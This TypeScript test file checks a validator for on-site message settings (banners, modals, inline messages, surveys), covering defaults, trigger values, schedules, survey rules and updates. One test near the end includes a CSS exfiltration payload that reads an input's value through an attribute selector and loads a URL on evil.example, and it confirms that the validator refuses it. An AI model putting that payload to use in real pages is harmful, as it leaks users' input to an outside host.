import { newSettings, settingsChange } from "../../../shared/kinds/message/rules";
import type { MessagePatch } from "../../../shared/kinds/message/settings";
import type { SurveyInput } from "../../../shared/kinds/message/survey/survey";

const banner = { name: "Sale", template: "banner" as const, htmlContent: "<p>Sale</p>" };
const slidesData = [{ imageUrl: "https://a.com/1.png", linkUrl: null, duration: 5 }];
const create = (fields: MessagePatch) => () =>
  newSettings({ ...banner, ...fields } as Parameters<typeof newSettings>[0]);

test("fields that are not named have the documented defaults", () => {
  expect(newSettings(banner)).toEqual({
    ...banner,
    cssContent: "",
    translations: {},
    status: "active",
    language: null,
    position: "BOTTOM_RIGHT",
    layout: null,
    autoHideSeconds: null,
    tone: null,
    targetSelector: null,
    trigger: "IMMEDIATE",
    triggerValue: null,
    dismissBehavior: "SESSION",
    dismissDuration: null,
    scheduleDays: [],
    scheduleTimeStart: null,
    scheduleTimeEnd: null,
    scheduleTimezone: null,
    startsAt: null,
    expiresAt: null,
    countries: [],
    devices: [],
    urlRules: [],
    frequency: null,
    audience: null,
    goal: null,
    priority: 0,
  });
});

test.each<[string, MessagePatch, RegExp]>([
  [
    "content missing",
    { htmlContent: undefined },
    /^htmlContent is required if template is "banner"/,
  ],
  ["slides missing", { template: "story", htmlContent: undefined }, /^slidesData is required/],
  ["slides on a banner", { slidesData }, /^slidesData is not content of template "banner"/],
  ["HTML on a story", { template: "story", slidesData }, /^htmlContent is not content/],
  [
    "DELAY without a value",
    { trigger: "DELAY" },
    /^triggerValue is required if trigger is "DELAY": a whole number of seconds/,
  ],
  ["DELAY beyond a day", { trigger: "DELAY", triggerValue: "86401" }, /got "86401"/],
  ["DELAY with words", { trigger: "DELAY", triggerValue: "soon" }, /got "soon"/],
  ["SCROLL of nothing", { trigger: "SCROLL", triggerValue: "0" }, /percentage, 1 to 100/],
  ["SCROLL too far", { trigger: "SCROLL", triggerValue: "101" }, /percentage, 1 to 100/],
  ["SCROLL of a part", { trigger: "SCROLL", triggerValue: "0.5" }, /Did you mean "50"\?$/],
  ["SCROLL in percent", { trigger: "SCROLL", triggerValue: "75%" }, /Did you mean "75"\?$/],
  ["SCROLL of pixels", { trigger: "SCROLL", triggerValue: "300px" }, /got "300px"\.$/],
  ["DELAY with a unit", { trigger: "DELAY", triggerValue: "5s" }, /Did you mean "5"\?$/],
  ["DELAY in milliseconds", { trigger: "DELAY", triggerValue: "2500 ms" }, /mean "3"\?$/],
  ["INACTIVITY in minutes", { trigger: "INACTIVITY", triggerValue: "2min" }, /mean "120"\?$/],
  ["CLICK on a blank", { trigger: "CLICK", triggerValue: " " }, /CSS selector/],
  [
    "a value for IMMEDIATE",
    { triggerValue: "5" },
    /^triggerValue must be null, or left out, if trigger is "IMM/,
  ],
  ["a layout for a modal", { template: "modal", layout: "BAR" }, /^layout goes with template "ban/],
  ["a tone for a banner", { tone: "INFO" }, /^tone goes with template "toast" only/],
  [
    "a modal that hides",
    { template: "modal", autoHideSeconds: 5 },
    /^autoHideSeconds goes with template "banner" or "toast" only/,
  ],
  [
    "a bar below",
    { layout: "BAR", position: "BOTTOM" },
    /^position must be "TOP", or left out, if layout is "BAR"; got "BOTTOM"/,
  ],
  ["DURATION without one", { dismissBehavior: "DURATION" }, /^dismissDuration is required/],
  [
    "a duration for SESSION",
    { dismissDuration: 60 },
    /^dismissDuration goes with dismissBehavior "DURATION"/,
  ],
  ["half a window", { scheduleTimeStart: "09:00" }, /^scheduleTimeEnd is required/],
  ["the other half", { scheduleTimeEnd: "09:00" }, /^scheduleTimeStart is required/],
  [
    "an empty window",
    { scheduleTimeStart: "09:00", scheduleTimeEnd: "09:00" },
    /^scheduleTimeEnd must differ/,
  ],
  [
    "over before it begins",
    { startsAt: "2027-01-02T00:00:00Z", expiresAt: "2027-01-01T00:00:00Z" },
    /^expiresAt must be after startsAt/,
  ],
  [
    "INLINE on a banner",
    { position: "INLINE" },
    /^position "INLINE" goes with template "inline" only; this message has template "banner"\.$/,
  ],
  [
    "a corner for an inline message",
    { template: "inline", targetSelector: "#a", position: "TOP" },
    /^position must be "INLINE", or left out, if template is "inline"; got "TOP"\.$/,
  ],
  [
    "a style element as CSS",
    { cssContent: "<style>a { color: red }</style>" },
    /^cssContent must not have <\/style: send the rules alone, without a style element\.$/,
  ],
  ["inline nowhere", { template: "inline" }, /^targetSelector is required/],
  ["a target for a banner", { targetSelector: "#a" }, /^targetSelector goes with/],
])("%s is refused by the name of the field", (_, fields, message) => {
  expect(create(fields)).toThrow(message);
  expect(create(fields)).toThrow(expect.objectContaining({ code: "invalid_body" }));
});

const nps = { id: "q1", type: "NPS" as const, text: "How likely?" };
const why = { id: "q2", type: "OPEN_TEXT" as const, text: "Why?" };
const survey = (...questions: SurveyInput["questions"]) => ({
  template: "survey" as const,
  htmlContent: undefined,
  surveyData: { title: "Hello", questions, thankYou: "Thanks" },
});

test("a survey is stored as sent, its choices with ids, and has no HTML", () => {
  const fields = survey(
    { ...nps, required: true, next: [{ when: [9, 10], goTo: "END" }] },
    why,
    { id: "q3", type: "RATING", text: "Stars?", max: 3 },
    { id: "q4", type: "SINGLE_CHOICE", text: "Which?", choices: ["a", "b"] },
  );
  const [first, second, third, last] = fields.surveyData.questions;
  const choices = ["a", "b"].map((text, index) => ({ id: `c${index + 1}`, text }));
  const questions = [first, second, third, { ...last, choices }];
  expect(create(fields)().surveyData).toEqual({ ...fields.surveyData, questions });
  expect(create(fields)()).not.toHaveProperty("cssContent");
});

test.each<[string, MessagePatch, RegExp]>([
  ["no survey", { template: "survey", htmlContent: undefined }, /^surveyData is required/],
  ["HTML beside it", { ...survey(nps), htmlContent: "<p>" }, /^htmlContent is not content of/],
  ["an id twice", survey(nps, { ...why, id: "q1" }), /^surveyData\.questions\[1\]\.id must not be/],
  ["END as an id", survey({ ...nps, id: "END" }), /\.id must not be "END"/],
  [
    "a choice without choices",
    survey({ ...nps, type: "SINGLE_CHOICE" }),
    /\.choices must have 2 to 20 choices/,
  ],
  [
    "choices for a scale",
    survey({ ...nps, choices: ["a", "b"] }),
    /\.choices must be left out if type is "NPS"/,
  ],
  [
    "a choice twice",
    survey({ ...nps, type: "MULTIPLE_CHOICE", choices: ["a", "a"] }),
    /\.choices must not name a choice twice/,
  ],
  ["a maximum for CSAT", survey({ ...nps, type: "CSAT", max: 5 }), /\.max goes with type "RATING"/],
  [
    "a way back",
    survey(nps, { ...why, next: [{ when: [], goTo: "q1" }] }),
    /^surveyData\.questions\[1\]\.next\[0\]\.goTo must be "END", as no question follows/,
  ],
  ["a way nowhere", survey({ ...nps, next: [{ when: [], goTo: "q9" }] }), /got "q9"/],
  [
    "a rule for no answer",
    survey({ ...nps, next: [{ when: [11], goTo: "END" }] }, why),
    /\.next\[0\]\.when must name possible answers, whole numbers from 0 to 10; got 11/,
  ],
  ["a rule on a text", survey({ ...why, next: [{ when: ["x"], goTo: "END" }] }), /got "x"/],
])("of a survey %s is refused", (_, fields, message) => {
  expect(create(fields)).toThrow(message);
});

test("times are stored in UTC with milliseconds, whatever their zone", () => {
  expect(newSettings({ ...banner, expiresAt: "2027-01-01T01:30:00+01:00" }).expiresAt).toBe(
    "2027-01-01T00:30:00.000Z",
  );
});

test("a schedule may cross midnight", () => {
  const night = { scheduleTimeStart: "22:00", scheduleTimeEnd: "06:00" };
  expect(newSettings({ ...banner, ...night })).toMatchObject(night);
});

test("an inline message gets the position INLINE automatically", () => {
  const inline = { ...banner, template: "inline" as const, targetSelector: "#hero" };
  expect(newSettings(inline)).toMatchObject({ position: "INLINE", targetSelector: "#hero" });
});

describe("an update", () => {
  const delayed = newSettings({ ...banner, trigger: "DELAY", triggerValue: "5" });

  test("leaves fields that it does not name unchanged", () => {
    expect(settingsChange({ name: "New" })(delayed)).toEqual({ ...delayed, name: "New" });
    expect(settingsChange({ trigger: "DELAY" })(delayed)).toEqual(delayed);
  });

  test("makes a partner field null that no longer applies", () => {
    expect(settingsChange({ trigger: "IMMEDIATE" })(delayed)).toMatchObject({
      triggerValue: null,
    });
    const lasting = newSettings({ ...banner, dismissBehavior: "DURATION", dismissDuration: 60 });
    expect(settingsChange({ dismissBehavior: "SESSION" })(lasting)).toMatchObject({
      dismissDuration: null,
    });
  });

  test("refuses a partner field that is named with a value but does not apply", () => {
    expect(() => settingsChange({ trigger: "IMMEDIATE", triggerValue: "5" })(delayed)).toThrow(
      /triggerValue must be null/,
    );
  });

  test("asks for a new value for another trigger", () => {
    expect(() => settingsChange({ trigger: "SCROLL" })(delayed)).toThrow(
      /triggerValue is required/,
    );
    expect(settingsChange({ trigger: "SCROLL", triggerValue: "50" })(delayed)).toMatchObject({
      trigger: "SCROLL",
      triggerValue: "50",
    });
  });

  test("of the template brings its content and drops the other's", () => {
    expect(() => settingsChange({ template: "story" })(delayed)).toThrow(/slidesData is required/);
    const story = settingsChange({ template: "story", slidesData })(delayed);
    expect(story).toMatchObject({ template: "story", slidesData });
    expect(story).not.toHaveProperty("htmlContent");
  });

  test("from inline to another template floats again", () => {
    const inline = newSettings({ ...banner, template: "inline", targetSelector: "#hero" });
    expect(settingsChange({ template: "toast" })(inline)).toMatchObject({
      position: "BOTTOM_RIGHT",
      targetSelector: null,
    });
  });
});

test("styles that read the page and load are refused with empty HTML too", () => {
  const cssContent = ":host-context(input[value^=a]) { background: url(https://evil.example/a) }";
  const fault = /cssContent must not have url.* together with :host-context\(\)/;
  expect(create({ htmlContent: "", cssContent })).toThrow(fault);
  expect(() => settingsChange({ htmlContent: "", cssContent })).toThrow(fault);
});

test("a bar is at the top; what another template does not know becomes null", () => {
  const bar = newSettings({ ...banner, layout: "BAR", autoHideSeconds: 9 });
  expect(bar).toMatchObject({ layout: "BAR", position: "TOP" });
  expect(settingsChange({ template: "toast" })(bar)).toMatchObject({
    layout: null,
    autoHideSeconds: 9,
  });
  expect(settingsChange({ template: "modal" })(bar)).toMatchObject({ autoHideSeconds: null });
});
